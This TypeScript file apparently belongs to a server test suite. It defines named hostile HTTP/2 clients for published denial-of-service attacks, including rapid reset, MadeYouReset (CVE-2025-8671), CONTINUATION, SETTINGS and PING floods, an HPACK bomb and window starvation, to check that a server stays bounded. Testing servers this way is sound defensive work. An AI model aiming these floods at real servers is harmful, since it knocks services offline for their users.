// Hostile HTTP/2 clients by name. Each runs for so many seconds against a port and tells what happened.
//
// What a good server does about each: GOAWAY with ENHANCE_YOUR_CALM (or a more fitting code) and a close, bounded work behind it,
// flat memory, and nothing that other connections notice. The names are those under which the attacks were published.

import {
  continuation,
  data,
  frame,
  FrameType,
  headers,
  ping,
  priority,
  rstStream,
  Setting,
  settings,
  WINDOW_MAX,
  windowUpdate,
} from "../support/h2-frames.ts";
import { block, indexed, literal, STATIC_ENTRIES, TABLE_BYTES_DEFAULT, tableSizeUpdate } from "../support/h2-hpack.ts";
import { type Attack, attackOf, type Front, splitHeaders } from "./attack.ts";

/** Units that go out in one write. */
const CHUNK = 100;

function times(count: number, make: () => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, make));
}

/** Each stream: these frames. */
function perStream(make: (front: Front, streamId: number) => readonly Buffer[]): Attack {
  return attackOf({ strike: (front) => front.flood(CHUNK, () => times(CHUNK, () => Buffer.concat(make(front, front.stream())))) });
}

/** The same frames for ever, behind what `begin` sends. */
function flood(frames: Buffer, begin?: (front: Front) => Buffer, isDeaf = false): Attack {
  const chunk = times(CHUNK, () => frames);
  return attackOf({
    isDeaf,
    strike: async (front) => {
      if (begin !== undefined) await front.send(0, begin(front));
      await front.flood(CHUNK, () => chunk);
    },
  });
}

/** One request whose body is these frames, as fast as the target gives credit for them. */
function dribble(frames: Buffer, creditBytes: number): Attack {
  const chunk = times(CHUNK, () => frames);
  return attackOf({
    strike: async (front) => {
      await front.send(0, withPost(front));
      await front.dribble(CHUNK, CHUNK * creditBytes, chunk);
    },
  });
}

function withPost(front: Front): Buffer {
  return front.post(front.stream());
}

/** Published as CVE-2025-8671: the server resets the stream itself, and the request goes on behind it. */
const MADE_YOU_RESET: Readonly<Record<string, (front: Front, streamId: number) => readonly Buffer[]>> = {
  "WINDOW_UPDATE of 0": (front, id) => [front.get(id), windowUpdate(id, 0)],
  "window overflow": (front, id) => [front.get(id), windowUpdate(id, WINDOW_MAX), windowUpdate(id, WINDOW_MAX)],
  "DATA behind END_STREAM": (front, id) => [front.get(id), data(id, "x")],
  "HEADERS behind END_STREAM": (front, id) => [front.get(id), front.get(id)],
  "PRIORITY on itself": (front, id) => [front.get(id), priority(id, { dependsOn: id })],
  "PRIORITY of 4 octets": (front, id) => [front.get(id), frame(FrameType.PRIORITY, 0, id, "\0\0\0\0")],
  "malformed trailers": (front, id) => [front.post(id), headers(id, block([[":status", "200"]]), { endStream: true })],
  "body beyond Content-Length": (front, id) => [
    headers(id, block([...front.fields("POST"), ["content-length", "1"]])),
    data(id, "xx", { endStream: true }),
  ],
};

/** A large entry of the dynamic table, named by one octet as often as a frame has room for. */
const BOMB_FIELDS = 16_000;

async function hpackBomb(front: Front): Promise<void> {
  const tableBytes = Math.min(TABLE_BYTES_DEFAULT, front.peer.remoteSettings.get(Setting.HEADER_TABLE_SIZE) ?? TABLE_BYTES_DEFAULT);
  const hasTable = tableBytes >= 256;
  const entry = hasTable ? literal("with incremental indexing", "x", "x".repeat(tableBytes - 64)) : Buffer.alloc(0);
  // Without a table there is still "accept-encoding: gzip, deflate" of the static one.
  const reference = hasTable ? indexed(STATIC_ENTRIES + 1) : indexed(16);
  const update = tableBytes < TABLE_BYTES_DEFAULT ? tableSizeUpdate(tableBytes) : Buffer.alloc(0);
  const bomb = times(BOMB_FIELDS, () => reference);
  while (!front.isOver) {
    await front.send(1, splitHeaders(front.stream(), Buffer.concat([update, block(front.fields()), entry, bomb]), true));
  }
}

/** Fields that take 16 KB, four of which the target has to keep for as long as the stream lasts. */
const HELD_FIELDS = block(["a", "b", "c", "d"].map((name) => [`x-held-${name}`, "x".repeat(3_900)] as const));

async function headerMemory(front: Front): Promise<void> {
  for (let count = 0; count < front.streamsMax && !front.isOver; count++) {
    await front.send(1, splitHeaders(front.stream(), Buffer.concat([block(front.fields("POST")), HELD_FIELDS]), false));
  }
}

/** As many large responses as the target lets one connection ask for. */
async function askForMuch(front: Front): Promise<number[]> {
  const streams = Array.from({ length: front.streamsMax }, () => front.stream());
  for (const stream of streams) await front.send(1, front.get(stream, front.options.bigPath ?? front.options.path));
  return streams;
}

async function oneByteWindows(front: Front): Promise<void> {
  const streams = await askForMuch(front);
  const credit = Buffer.concat(streams.flatMap((stream) => [windowUpdate(0, 1), windowUpdate(stream, 1)]));
  await front.flood(streams.length, () => credit);
}

/** Each change moves the windows of all open streams. */
async function flippingWindows(front: Front): Promise<void> {
  await askForMuch(front);
  const flips = Buffer.concat([settings([Setting.INITIAL_WINDOW_SIZE, 1]), settings([Setting.INITIAL_WINDOW_SIZE, 0])]);
  const chunk = times(CHUNK / 2, () => flips);
  await front.flood(CHUNK, () => chunk);
}

/** The last stream number there is, which closes a billion idle ones; then one that is too low. */
async function streamIdExhaustion(front: Front): Promise<void> {
  await front.send(1, front.get(front.stream()));
  await front.send(1, front.get(WINDOW_MAX - 2), front.get(WINDOW_MAX));
  await front.send(1, front.get(front.stream()));
}

const ZERO_WINDOW = [[Setting.INITIAL_WINDOW_SIZE, 0]] as const;

export const ATTACKS: Readonly<Record<string, Attack>> = {
  "rapid reset": perStream((front, id) => [front.get(id), rstStream(id)]),
  ...Object.fromEntries(Object.entries(MADE_YOU_RESET).map(([how, frames]) => [`MadeYouReset: ${how}`, perStream(frames)])),
  "CONTINUATION flood": flood(continuation(1, block([["x", "y"]]), { endHeaders: false }), (front) =>
    headers(front.stream(), block(front.fields()), { endStream: true, endHeaders: false }),
  ),
  "empty CONTINUATION flood": flood(continuation(1, Buffer.alloc(0), { endHeaders: false }), (front) =>
    headers(front.stream(), block(front.fields()), { endStream: true, endHeaders: false }),
  ),
  "SETTINGS flood": flood(settings()),
  "SETTINGS flood that reads no answer": flood(settings(), undefined, true),
  "SETTINGS flood of windows": attackOf({ settings: ZERO_WINDOW, strike: flippingWindows }),
  "PING flood": flood(ping()),
  "PING flood that reads no answer": flood(ping(), undefined, true),
  "PRIORITY flood": attackOf({
    strike: (front) => front.flood(CHUNK, () => times(CHUNK, () => priority(front.stream(), { dependsOn: 0, exclusive: true }))),
  }),
  "WINDOW_UPDATE flood": flood(windowUpdate(0, 1)),
  "unknown frame flood": flood(frame(0x16, 0, 0, "\0\0\0\0\0\0\0\0")),
  "empty DATA flood": flood(data(1, ""), withPost),
  "tiny DATA flood": dribble(data(1, "x"), 1),
  "padding flood": dribble(data(1, "", { padding: 0 }), 1),
  "empty HEADERS flood": perStream((_, id) => [headers(id, Buffer.alloc(0), { endStream: true })]),
  "nameless field flood": perStream((front, id) => [headers(id, block([...front.fields(), ["", ""]]), { endStream: true })]),
  "HPACK bomb": attackOf({ strike: hpackBomb }),
  "zero window": attackOf({ settings: ZERO_WINDOW, strike: async (front) => void (await askForMuch(front)) }),
  "one-byte windows": attackOf({ settings: ZERO_WINDOW, strike: oneByteWindows }),
  "header memory": attackOf({ strike: headerMemory }),
  "stream-id exhaustion": attackOf({ strike: streamIdExhaustion }),
  "window overflow": attackOf({ strike: (front) => front.send(1, windowUpdate(0, WINDOW_MAX), windowUpdate(0, WINDOW_MAX)) }),
};
